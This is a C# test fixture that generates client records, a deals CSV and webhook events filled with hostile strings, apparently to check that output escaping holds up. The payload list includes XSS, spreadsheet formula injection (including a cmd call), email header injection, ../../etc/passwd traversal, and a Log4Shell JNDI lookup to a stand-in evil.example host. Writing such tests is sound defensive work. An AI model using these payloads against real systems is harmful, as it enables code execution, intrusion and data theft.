using System.Text.Json;

namespace OpsAutomation.Functions.Tests.Hostile;

/// <summary>A client all of whose names are chosen by somebody who means harm; and one whose names mean none, to compare with.</summary>
/// <param name="Id">The engagement.</param>
/// <param name="Values">What its names are made of: each field takes the next.</param>
internal sealed record HostileClient(string Id, IReadOnlyList<string> Values)
{
    /// <summary>Values that mean something to a browser, a mail client, a spreadsheet, a template, a terminal or a file system.</summary>
    public static IReadOnlyList<string> Threats { get; } =
    [
        "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "</td></tr></table></body><a href=\"https://evil.example/x\">x</a>", "' style='position:fixed' onmouseover='alert(1)",
        "[clic](javascript:alert(1))", "![x](https://evil.example/p.png)", "| a | b |", "```\n# x\n```", "---\ntitle: x\n---", "# x\n\n- y", "https://evil.example/x", "<https://evil.example/y>",
        "{{engagement}} {{{raw}}} {{#each people}}x{{/each}}", "=HYPERLINK(\"https://evil.example\")", "+1+1", "-2+3", "@SUM(A1)", "\t=1+1", "=cmd|' /C calc'!A0",
        "x\r\nBcc: victim@evil.example\r\n\r\n<b>body</b>", "x\u2028y\u2029z\u0085w", "a\u202Eb\u2066c\u200Fd", "a\u200Bb\uFEFFc\u00ADd", "a\u001B[31m\u0007b\u0001", "&lt;b&gt; &#60;u&#62; &amp;amp;",
        "<!channel> <@U1> *x* _y_ ~z~", "😀👩‍👩‍👧‍👦 e\u0301", new('w', 3000), "../../etc/passwd", "CON", "%2e%2e%2f", "${jndi:ldap://evil.example}", "]]></w:t><w:fldSimple w:instr=\"HYPERLINK\"/>", "a=?utf-8?B?PGI+?=b",
    ];

    /// <summary>The client, its words and its records.</summary>
    public static HostileClient Harmless { get; } = new("harmless", ["plain words"]);

    /// <summary>Several, so that values come to different fields.</summary>
    public static IReadOnlyList<HostileClient> Harmful { get; } =
        [.. Enumerable.Range(0, 4).Select(turn => new HostileClient($"harmful-{turn}", [.. Threats.Skip(turn * 9).Concat(Threats.Take(turn * 9))]))];

    /// <summary>The file of the engagement; every text in it is one of the values.</summary>
    public string Yaml => $$"""
        id: {{Id}}
        name: {{Text(0)}}
        locale: en-GB
        start: 2025-12-01
        state: active
        sender: studio@lumen.example
        scope: {business: {{Text(1)}}, stakes: {{Text(2)}}, included: [{{Text(3)}}] }
        people:
          - {id: ann, name: {{Text(4)}}, title: {{Text(5)}}, role: obm, email: ann@studio.example}
          - {id: bob, name: {{Text(6)}}, title: {{Text(7)}}, role: sponsor}
        kpis:
          followed: [sales.won-amount, sales.loss-reasons, own.total]
          custom:
            - {id: own.total, label: {{Text(8)}}, unit: count, measure: {fact: Deal, aggregate: count} }
          targets:
            - {kpi: sales.won-amount, grain: week, value: 1000000}
        raci:
          - {process: {{Text(9)}}, accountable: ann, responsible: [bob]}
        tools:
          - {name: {{Text(10)}}, purpose: {{Text(11)}} }
        milestones:
          changes:
            - {id: J45, day: 45, title: {{Text(12)}}, criteria: [{text: {{Text(13)}}, kind: manual }]}
        recipients:
          - {id: claire, name: {{Text(14)}}, email: claire@lumen.example, day: monday, time: "07:30"}
        webhooks:
          - {source: zapier, scheme: token, events: [{on: said, comment: $.text}, {on: asked, decision: $.text}, {on: todo, action: $.text}]}
        """;

    /// <summary>Deals, each of a value.</summary>
    public string Deals => "Record ID,Deal Name,Deal Stage,Amount,Close Date,Create Date,Deal owner,Closed Lost Reason\n"
        + string.Concat(Enumerable.Range(0, Threats.Count).Select(i =>
            $"{i},{Cell(i)},{(i % 2 == 0 ? "closedwon" : "closedlost")},{1000 + i},2026-01-02,2025-12-02,{Cell(i + 1)},{Cell(i + 2)}\n"));

    /// <summary>Events whose texts are values.</summary>
    public string Events => JsonSerializer.Serialize(Enumerable.Range(0, 12).Select(i => new { type = new[] { "said", "asked", "todo" }[i % 3], text = "x " + Value(i * 2) }));

    private string Value(int i) => Values[i % Values.Count];

    // A YAML text between double quotes has the escapes of JSON.
    private string Text(int i) => JsonSerializer.Serialize(Value(i));

    private string Cell(int i) => $"\"{Value(i).Replace("\"", "\"\"", StringComparison.Ordinal)}\"";
}
